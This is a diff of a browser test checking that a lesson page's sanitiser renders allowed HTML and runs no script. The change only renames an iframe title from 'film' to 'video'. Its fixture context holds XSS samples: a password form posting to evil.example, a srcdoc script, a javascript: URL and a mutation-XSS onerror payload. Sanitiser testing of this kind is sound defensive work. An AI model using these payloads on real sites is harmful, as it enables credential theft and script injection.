@@ -13,7 +13,7 @@ const HOSTILE = `
 <a href="https://example.org/" target="_self">good link</a>
 <a href="#main">link within</a>
 <form action="https://evil.example/"><input name="password"><button>Send</button></form>
-<iframe src="https://www.youtube.com/watch?v=dQw4w9WgXcQ" title="A film"></iframe>
+<iframe src="https://www.youtube.com/watch?v=dQw4w9WgXcQ" title="A video"></iframe>
 <iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>
 <iframe src="javascript:parent.pwned=1"></iframe>
 <math><mtext></p><style><img src=x onerror="window.pwned=1"></style></math>
@@ -48,6 +48,6 @@ test('A lesson’s text renders allowed HTML and runs nothing, whatever the devi
     'href',
     '#user-content-main',
   );
-  await expect(lesson.getByRole('link', { name: 'A film on www.youtube.com' })).toBeVisible();
+  await expect(lesson.getByRole('link', { name: 'A video on www.youtube.com' })).toBeVisible();
   await expect(lesson.getByRole('group', { name: 'Tides' })).toBeVisible();
 });
